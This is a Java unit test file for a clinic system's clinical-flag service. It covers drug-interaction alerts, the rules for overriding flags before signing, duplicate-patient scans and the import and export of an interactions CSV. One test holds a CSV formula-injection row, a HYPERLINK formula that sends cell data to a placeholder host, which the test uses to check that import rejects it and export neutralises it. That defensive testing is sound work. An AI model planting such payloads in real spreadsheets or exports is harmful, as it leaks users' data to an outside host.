package org.clinicdesk.core.flags;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import org.clinicdesk.core.MemoryClinic;
import org.clinicdesk.core.common.PermissionDeniedException;
import org.clinicdesk.core.common.RuleViolationException;
import org.clinicdesk.core.common.ValidationException;
import org.clinicdesk.core.history.HistoryEntry;
import org.clinicdesk.core.history.HistoryKind;
import org.clinicdesk.core.notes.Prescription;
import org.clinicdesk.core.notes.PrescriptionParser;
import org.clinicdesk.core.patient.DateOfBirth;
import org.clinicdesk.core.patient.Patient;
import org.clinicdesk.core.patient.PatientStatus;
import org.clinicdesk.core.patient.PersonName;
import org.clinicdesk.core.patient.PhoneNumber;
import org.clinicdesk.core.patient.Sex;
import org.clinicdesk.core.patient.Uhid;
import org.clinicdesk.core.users.Actor;
import org.clinicdesk.core.users.Role;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Clinical flags raised from a patient's chart through the shipped knowledge, their life cycle and the signing rule. */
class FlagServiceTest {
    private final Actor doctor = MemoryClinic.actor(Role.DOCTOR, "dr.rao");
    private final Actor admin = MemoryClinic.actor(Role.ADMIN);
    private MemoryClinic clinic;
    private FlagService flags;
    private Patient onWarfarin;
    private List<Prescription> ibuprofen;

    @TempDir
    Path dir;

    @BeforeEach
    void setUp() {
        clinic = new MemoryClinic();
        flags = new FlagService(clinic.ctx, clinic.chartService(), clinic.patientRepository(), clinic.knowledgeStore(),
                clinic.flagRepository());
        onWarfarin = patient(1, "Asha Rao", "+919845012345", LocalDate.of(1960, 3, 1));
        HistoryEntry warfarin = new HistoryEntry(UUID.randomUUID(), onWarfarin.id(), HistoryKind.PRESCRIPTION,
                clinic.ctx.today().minusDays(10), "Warfarin 5 mg — once daily", "", "clinic", "dr.rao",
                MemoryClinic.MORNING);
        clinic.history.put(warfarin.id(), warfarin);
        ibuprofen = List.of(PrescriptionParser.parse("Brufen 400 mg 1 tab TDS x 5 days"));
    }

    private Patient patient(long serial, String name, String phone, LocalDate dob) {
        Patient p = new Patient(UUID.randomUUID(), new Uhid(MemoryClinic.SITE, serial), PersonName.parse(name),
                new DateOfBirth(dob, false), Sex.F, phone == null ? null : PhoneNumber.parse(phone), "", List.of(),
                PatientStatus.ACTIVE);
        clinic.patients.put(p.id(), p);
        return p;
    }

    private String uhid() {
        return onWarfarin.uhid().value();
    }

    @Test
    void anNsaidProposedBesideWarfarinRaisesAnInteractionAndStoresNothing() {
        PatientFlags found = flags.withPrescriptions(doctor, uhid(), ibuprofen);
        assertThat(found.flags()).filteredOn(f -> f.kind() == FlagKind.INTERACTION).isNotEmpty()
                .allSatisfy(f -> assertThat(f.explanation()).containsIgnoringCase("warfarin"));
        assertThat(clinic.flags).isEmpty();
        assertThat(flags.withPrescriptions(doctor, uhid(), List.of()).flags())
                .noneMatch(f -> f.kind() == FlagKind.INTERACTION);
    }

    @Test
    void aHighFlagBlocksSigningUntilOverriddenWithAReasonThatTheSummaryLists() {
        assertThat(flags.withPrescriptions(doctor, uhid(), ibuprofen).high()).isNotEmpty();
        assertThatThrownBy(() -> flags.beforeSigning(doctor, uhid(), ibuprofen, Optional.empty()))
                .isInstanceOf(RuleViolationException.class);
        List<FlagRecord> overridden = flags.beforeSigning(doctor, uhid(), ibuprofen, Optional.of("short course, INR checked"));
        assertThat(overridden).isNotEmpty().allSatisfy(r -> {
            assertThat(r.state()).isEqualTo(FlagState.OVERRIDDEN);
            assertThat(r.reason()).isEqualTo("short course, INR checked");
            assertThat(r.changedBy()).isEqualTo("dr.rao");
        });
        assertThat(flags.overridden(doctor, onWarfarin.id())).extracting(FlagRecord::id)
                .containsExactlyInAnyOrderElementsOf(overridden.stream().map(FlagRecord::id).toList());
    }

    @Test
    void aFlagOnTheChartIsStoredRaisedThenAcknowledgedAndCountedOnTheBoardOnlyWhileUnanswered() {
        HistoryEntry nsaid = new HistoryEntry(UUID.randomUUID(), onWarfarin.id(), HistoryKind.PRESCRIPTION,
                clinic.ctx.today().minusDays(1), "Brufen 400 mg — three times a day", "", "clinic", "dr.rao",
                MemoryClinic.MORNING);
        clinic.history.put(nsaid.id(), nsaid);
        PatientFlags found = flags.forPatient(doctor, uhid());
        ClinicalFlag high = found.high().get(0);
        assertThat(found.state(high)).map(FlagRecord::state).contains(FlagState.RAISED);
        assertThat(flags.unansweredHigh(doctor, List.of(onWarfarin.id()))).containsKey(onWarfarin.id());

        FlagRecord answered = flags.acknowledge(doctor, uhid(), high.key(), Optional.empty());
        assertThat(answered.state()).isEqualTo(FlagState.ACKNOWLEDGED);
        assertThat(flags.unansweredHigh(doctor, List.of(onWarfarin.id())).getOrDefault(onWarfarin.id(), 0))
                .isEqualTo(found.high().size() - 1);
        assertThatThrownBy(() -> flags.acknowledge(MemoryClinic.actor(Role.RECEPTION), uhid(), high.key(), Optional.empty()))
                .isInstanceOf(PermissionDeniedException.class);
    }

    @Test
    void aScanFindsTheLikelyDuplicatePatientAndIsAuditedOnce() {
        patient(2, "Asha  Rao", "+919845012345", LocalDate.of(1960, 3, 1));
        patient(3, "Kiran Das", null, LocalDate.of(1990, 1, 1));
        FlagScan scan = flags.scanAll(doctor);
        assertThat(scan.patients()).isEqualTo(3);
        assertThat(scan.byKind()).containsEntry("duplicate_patient", 2);
        assertThat(scan.flagged()).extracting(PatientFlags::name).contains("Asha Rao").doesNotContain("Kiran Das");
        assertThat(scan.total()).isEqualTo(scan.flagged().stream().mapToInt(f -> f.flags().size()).sum());
        assertThat(clinic.auditActions()).containsOnlyOnce("FLAGS_SCANNED");
        assertThatThrownBy(() -> flags.scanAll(MemoryClinic.actor(Role.RECEPTION)))
                .isInstanceOf(PermissionDeniedException.class);
    }

    @Test
    void aClinicsInteractionsFileReplacesTheShippedOneOnlyWhenEveryRowIsRight() throws Exception {
        String shipped = flags.exportInteractions(doctor);
        assertThat(shipped).isNotBlank();
        Path good = dir.resolve("interactions.csv");
        Files.writeString(good, shipped);
        assertThat(flags.importInteractions(admin, good)).isPositive();
        assertThat(clinic.settings).containsKey("clinic.interactions");
        assertThat(clinic.auditActions()).last().isEqualTo("FLAG_KNOWLEDGE_IMPORTED");

        Path bad = dir.resolve("bad.csv");
        Files.writeString(bad, shipped + "\nnot-a-drug,also-not,HIGH,nothing\n");
        String before = clinic.settings.get("clinic.interactions");
        assertThatThrownBy(() -> flags.importInteractions(admin, bad))
                .isInstanceOfSatisfying(ValidationException.class, e -> assertThat(e.field()).isEqualTo(bad.toString()));
        assertThatThrownBy(() -> flags.importInteractions(admin, dir.resolve("missing.csv")))
                .isInstanceOf(ValidationException.class);
        assertThatThrownBy(() -> flags.importInteractions(doctor, good)).isInstanceOf(PermissionDeniedException.class);
        assertThat(clinic.settings.get("clinic.interactions")).isEqualTo(before);
    }

    /**
     * A field a spreadsheet would run as a formula is refused by the import; one that another desk's login put into
     * the clinic's setting (no import checked it) is exported inert, and the other lines as they were.
     */
    @Test
    void interactionsThatASpreadsheetWouldRunAreRefusedOnImportAndExportedInert() throws Exception {
        String shipped = flags.exportInteractions(doctor);
        String hostile = "warfarin,aspirin,high,\"=HYPERLINK(\"\"http://x.example/\"\"&A1)\",@SUM(A1),-1+1";
        Path file = dir.resolve("formula.csv");
        Files.writeString(file, shipped + "\n" + hostile + "\n");
        assertThatThrownBy(() -> flags.importInteractions(admin, file))
                .isInstanceOfSatisfying(ValidationException.class, e -> assertThat(e.reason())
                        .contains("field 4 starts with a character a spreadsheet runs as a formula"));
        assertThat(clinic.settings).doesNotContainKey("clinic.interactions");

        clinic.settings.put("clinic.interactions", shipped + "\n" + hostile + "\n");
        String exported = flags.exportInteractions(doctor);
        assertThat(exported).startsWith(shipped).contains(
                "warfarin,aspirin,high,\"'=HYPERLINK(\"\"http://x.example/\"\"&A1)\",'@SUM(A1),'-1+1");
        assertThat(exported.lines().filter(l -> !l.startsWith("#")).skip(1)
                .map(l -> KnowledgeCsv.split(l, "export", 0)).flatMap(List::stream))
                .noneMatch(org.clinicdesk.core.common.SpreadsheetText::runsAsFormula);
    }

    @Test
    void aDesksOldInteractionsFileMovesIntoTheClinicOnceAndABrokenOneStays() {
        String shipped = flags.exportInteractions(doctor);
        assertThat(flags.adoptDeskInteractions("garbage,,,", "clinic-interactions.csv")).isFalse();
        assertThat(clinic.settings).doesNotContainKey("clinic.interactions");
        assertThat(flags.adoptDeskInteractions(shipped, "clinic-interactions.csv")).isTrue();
        assertThat(clinic.settings).containsEntry("clinic.interactions", shipped);
        assertThat(clinic.audit).singleElement().satisfies(e -> assertThat(e.username()).isEqualTo("system"));
    }

    @Test
    void theKnowledgeGraphExportsAsGraphMl() {
        StringWriter out = new StringWriter();
        flags.exportKnowledgeGraph(doctor, out);
        assertThat(out.toString()).contains("<graphml").containsIgnoringCase("warfarin");
    }
}
